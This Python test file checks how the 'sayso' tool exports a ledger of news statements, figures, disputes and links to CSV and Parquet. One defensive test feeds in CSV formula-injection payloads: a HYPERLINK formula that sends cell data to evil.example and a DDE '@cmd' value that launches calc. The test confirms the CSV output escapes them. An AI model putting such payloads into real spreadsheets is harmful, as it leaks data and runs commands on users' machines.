"""The flat tables: what stands in them, how they are documented, and what CSV and Parquet make of them."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

import sayso
from sayso.ledger import Ledger
from sayso.ledger.links import judge
from sayso.pipeline import regroup
from sayso.views.cli import main
from sayso.views.exports.queries import KINDS, Kind
from sayso.views.exports.rows import Reasons, Spans, Texts
from sayso.views.exports.tables import arrow, csv_files, guarded, parquet_files, unguarded

EXPORTS = (Path(__file__).parents[3] / "docs" / "exports.md").read_text(encoding="utf8")
TYPES: dict[Any, str] = {
    str: "text", int: "whole number", float: "number", bool: "true or false", Texts: "list of texts", Spans: "list of [start, end]",
    Reasons: "list of reasons",
}  # fmt: skip


def documented(kind: Kind[Any]) -> str:
    """A table as docs/exports.md has it."""
    rows = "\n".join(f"| `{c.name}` | {TYPES[c.type]}{', or unknown' if c.optional else ''} | {c.what} |" for c in kind.columns)
    return f"### {kind.name}\n\n{kind.row.__doc__}\n\n| column | | |\n|---|---|---|\n{rows}\n"


@pytest.fixture
def own(newsroom: Path, tmp_path: Path) -> Path:
    """A copy of the newsroom's ledger, to be written to."""
    return Path(shutil.copy(newsroom, tmp_path / "own.db"))


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf8", newline="") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize("kind", KINDS.values(), ids=list(KINDS))
def test_every_column_is_documented(kind: Kind[Any]) -> None:
    assert documented(kind) in EXPORTS


def test_every_offset_gives_the_exact_words(newsroom: Path) -> None:
    with Ledger(newsroom, read_only=True) as ledger:
        texts = {report.id: report.text for report in KINDS["reports"].rows(ledger)}
        statements = {one.id: one for one in KINDS["statements"].rows(ledger)}
        figures = list(KINDS["figures"].rows(ledger))
        members = list(KINDS["disputes"].rows(ledger))
    assert statements
    assert figures
    assert members
    for one in statements.values():
        for words, spans in ((one.source, one.source_spans), (one.cue, one.cue_spans), (one.content, one.content_spans)):
            assert " … ".join(texts[one.report][start:end] for start, end in spans) == (words or "")
        assert (one.start, one.end) == (min(one.content_spans)[0], max(end for _, end in one.content_spans))
        assert texts[one.report][: one.start].count("\n") + 1 == one.line
    for figure in figures:
        assert texts[figure.report][figure.start : figure.end] == figure.words
    for member in members:
        if member.figure:
            assert texts[member.report][member.start : member.end] == member.words
        else:
            assert (member.start, member.end, member.words) == ((s := statements[member.statement]).start, s.end, s.content)


def test_a_row_has_what_the_views_have(newsroom: Path) -> None:
    from sayso.views.pages import said_lines

    with Ledger(newsroom, read_only=True) as ledger:
        lines, speakers = said_lines(ledger)
        rows = list(KINDS["statements"].rows(ledger))
    assert [row.id for row in rows] == list(lines)
    for row in rows:
        line = lines[row.id]
        for name in (
            "cue",
            "content",
            "source",
            "relay",
            "said",
            "said_from",
            "within",
            "told_by",
            "flags",
            "line",
            "start",
            "end",
            "confirmed",
        ):
            assert getattr(row, name) == getattr(line, name), name
        assert (row.told_in, row.witnesses_low, row.witnesses_high) == (line.told_in, line.origins_low, line.origins_high)
        assert set(row.disputes) == set(line.disputes)
        assert row.earlier_text == (line.newest != line.report)
        assert row.voices == tuple(speakers[row.id])


def test_what_a_person_rejected_is_left_out(own: Path) -> None:
    with Ledger(own) as ledger:
        figure = next(one for one in KINDS["figures"].rows(ledger) if one.statement)
        judge(ledger, figure.statement, None, "reject", by="Ismay Corran")
        (dispute, *_) = KINDS["disputes"].ids(ledger)
        judge(ledger, dispute, None, "reject", by="Ismay Corran")
        left = {name: kind.ids(ledger) for name, kind in KINDS.items()}
        regroup(ledger)
        linked = {name: kind.ids(ledger) for name, kind in KINDS.items()}
    for found in (left, linked):
        assert figure.statement not in found["statements"]
        assert figure.id not in found["figures"]
        assert dispute not in found["disputes"]


def test_a_dispute_that_lost_a_side_is_left_out(own: Path) -> None:
    with Ledger(own) as ledger:
        member = next(one for one in KINDS["disputes"].rows(ledger) if one.statement)
        alone = [
            one for one in KINDS["disputes"].rows(ledger) if (one.dispute, one.side) == (member.dispute, member.side) and one.statement
        ]
        for one in alone:
            judge(ledger, one.statement, None, "reject", by="Ismay Corran")
        assert member.dispute not in KINDS["disputes"].ids(ledger)
        assert not any(member.dispute in one.disputes for one in KINDS["statements"].rows(ledger))


def test_what_a_later_text_has_word_for_word_is_counted_there_only(newsroom: Path) -> None:
    with Ledger(newsroom, read_only=True) as ledger:
        later = dict(ledger.connection.execute("SELECT statement, by FROM superseded").fetchall())
        rows = {one.id: one for one in KINDS["statements"].rows(ledger)}
        (key, by), *_ = later.items()
        (asked,) = KINDS["statements"].rows(ledger, [key], all_texts=True)
    assert later
    assert not later.keys() & rows.keys()
    assert asked.voices == rows[by].voices  # the later one's: only the newest text is linked
    assert asked.utterance == rows[by].utterance


def test_links_say_what_a_person_said_of_their_ends(own: Path) -> None:
    with Ledger(own) as ledger:
        link = next(one for one in KINDS["links"].rows(ledger) if one.kind == "voice" and one.left_voice and one.right_voice)
        left, right = (
            ledger.connection.execute(
                "SELECT min(voice) FROM designations JOIN voices ON id = voice WHERE designation = ?", (end,)
            ).fetchone()[0]
            for end in (link.left, link.right)
        )
        judge(ledger, left, right, "unsure", by="Ismay Corran")
        (again,) = KINDS["links"].rows(ledger, [link.id])
    assert link.judged is None
    assert again.judged == "unsure"
    assert all(" " in name or name.isalpha() for name in (link.left_name, link.right_name))  # a name, not an id


def test_the_ends_of_links_are_called_by_name(newsroom: Path) -> None:
    with Ledger(newsroom, read_only=True) as ledger:
        links = list(KINDS["links"].rows(ledger))
        texts = {report.id: report.path for report in KINDS["reports"].rows(ledger)}
    assert not [link for link in links if link.left_name == link.left or link.right_name == link.right]
    assert all(link.left_name == texts[link.left] for link in links if link.kind == "copy")


def test_in_a_ledger_that_is_not_linked_voices_are_those_of_single_reports(tmp_path: Path) -> None:
    from sayso.settings import Settings
    from tests.talks.stories import a_story

    with Ledger(tmp_path / "l.db", create=True) as ledger:
        for report, reading in a_story():
            ledger.record(report, reading, version="0", settings=Settings())
        voices = {one.id: one for one in KINDS["voices"].rows(ledger)}
        statements = list(KINDS["statements"].rows(ledger))
    assert all(one.voice in voices and one.voice.startswith("v1:") for one in statements)
    assert all(one.utterance is None and one.witnesses_low is None and one.told_in is None for one in statements)


def test_dates_keep_their_precision(tmp_path: Path) -> None:
    from sayso.settings import Settings
    from tests.factory import a_report
    from tests.talks.stories import BOARD, a_reading

    text = "The Harbour Board rejected a shorter working week."
    reading = a_reading(text, (("The Harbour Board", "rejected", "a shorter working week", BOARD),))
    with Ledger(tmp_path / "l.db", create=True) as ledger:
        for number, published in enumerate(("2019-03", "2019-03-05T14:00+02:00", None)):
            ledger.record(
                _dated(a_report(text, path=f"{number}.txt", outlet=f"Paper {number}"), published), reading, version="0", settings=Settings()
            )
        assert [one.published for one in KINDS["statements"].rows(ledger)] == ["2019-03", "2019-03-05T14:00+02:00", None]
        assert arrow(KINDS["statements"], ledger)["published"].to_pylist() == ["2019-03", "2019-03-05T14:00+02:00", None]


def _dated(report: Any, published: str | None) -> Any:
    from dataclasses import replace

    return replace(report, published=published)


def test_parquet_has_the_rows_and_says_what_they_are(newsroom: Path, tmp_path: Path) -> None:
    with Ledger(newsroom, read_only=True) as ledger:
        paths = list(parquet_files(ledger, tmp_path / "out"))
        assert [path.name for path in paths] == [f"{name}.parquet" for name in KINDS]
        for path, kind in zip(paths, KINDS.values(), strict=True):
            table = pyarrow.parquet.read_table(path)
            rows = list(kind.rows(ledger))
            assert table.num_rows == len(rows)
            assert table.column_names == [column.name for column in kind.columns]
            assert table.schema.metadata[b"sayso.version"].decode() == sayso.__version__
            assert table.schema.metadata[b"sayso.model"]
            assert [table.schema.field(c.name).metadata[b"what"].decode() for c in kind.columns] == [c.what for c in kind.columns]
            for column in kind.columns:
                wanted = [getattr(row, column.name) for row in rows]
                if column.type == Reasons:
                    wanted = [[one._asdict() for one in some] for some in wanted]
                held = table[column.name].to_pylist()
                assert held == [
                    [list(v) if isinstance(v, tuple) else v for v in one] if isinstance(one, tuple) else one for one in wanted
                ], column


def test_csv_has_the_same_words(newsroom: Path, tmp_path: Path) -> None:
    with Ledger(newsroom, read_only=True) as ledger:
        paths = list(csv_files(ledger, tmp_path / "out"))
        rows = list(KINDS["statements"].rows(ledger))
        links = list(KINDS["links"].rows(ledger))
    assert [path.name for path in paths] == [f"{name}.csv" for name in KINDS]
    held = read_csv(tmp_path / "out" / "statements.csv")
    for cells, row in zip(held, rows, strict=True):
        assert unguarded(cells["content"]) == row.content
        assert unguarded(cells["outlet"]) == (row.outlet or "")
        assert json.loads(cells["content_spans"]) == [list(span) for span in row.content_spans]
        assert tuple(json.loads(cells["relay"])) == row.relay
        assert cells["witnesses_low"] == str(row.witnesses_low)
        assert cells["confirmed"] == str(row.confirmed).lower()
    reasons = json.loads(read_csv(tmp_path / "out" / "links.csv")[0]["reasons"])
    assert [tuple(one) for one in reasons] == list(links[0].reasons)


def test_the_same_ledger_gives_the_same_files(newsroom: Path, tmp_path: Path) -> None:
    with Ledger(newsroom, read_only=True) as ledger:
        for write in (csv_files, parquet_files):
            first, again = ([path.read_bytes() for path in write(ledger, tmp_path / name)] for name in ("first", "again"))
            assert first == again


@given(st.text(alphabet=st.one_of(st.sampled_from("'=+-@\t\r\n\0＝＋－＠"), st.characters(codec="utf-8")), max_size=20))
def test_no_cell_is_a_formula_and_all_words_come_back(words: str) -> None:
    (cell,) = guarded(pa.array([words])).to_pylist()
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"))
    assert unguarded(cell) == words


def test_a_hostile_report_is_no_formula_in_csv_and_itself_in_parquet(tmp_path: Path) -> None:
    from sayso.settings import Settings
    from tests.factory import a_report
    from tests.talks.stories import BOARD, a_reading

    content = '=HYPERLINK("https://evil.example/?"&A1,"a pay rise"'
    text = f"The Harbour Board rejected {content} again."
    reading = a_reading(text, (("The Harbour Board", "rejected", content, BOARD),))
    with Ledger(tmp_path / "l.db", create=True) as ledger:
        ledger.record(a_report(text, outlet="@cmd|' /C calc'!A0"), reading, version="0", settings=Settings())
        list(csv_files(ledger, tmp_path))
        list(parquet_files(ledger, tmp_path))
    (cells,) = read_csv(tmp_path / "statements.csv")
    assert cells["content"] == f"'{content}"
    assert cells["outlet"] == "'@cmd|' /C calc'!A0"
    assert pyarrow.parquet.read_table(tmp_path / "statements.parquet")["content"].to_pylist() == [content]


def test_an_empty_ledger_has_empty_tables(tmp_path: Path) -> None:
    with Ledger(tmp_path / "l.db", create=True) as ledger:
        for path in (*csv_files(ledger, tmp_path), *parquet_files(ledger, tmp_path)):
            assert path.stat().st_size
        assert all(arrow(kind, ledger).num_rows == 0 for kind in KINDS.values())
    assert read_csv(tmp_path / "statements.csv") == []


def test_the_command_writes_them(newsroom: Path, tmp_path: Path) -> None:
    done = CliRunner().invoke(main, ["export", str(newsroom), "--format", "parquet", "-o", str(tmp_path / "out")])
    assert done.exit_code == 0, done.output
    assert sorted(path.stem for path in (tmp_path / "out").iterdir()) == sorted(KINDS)
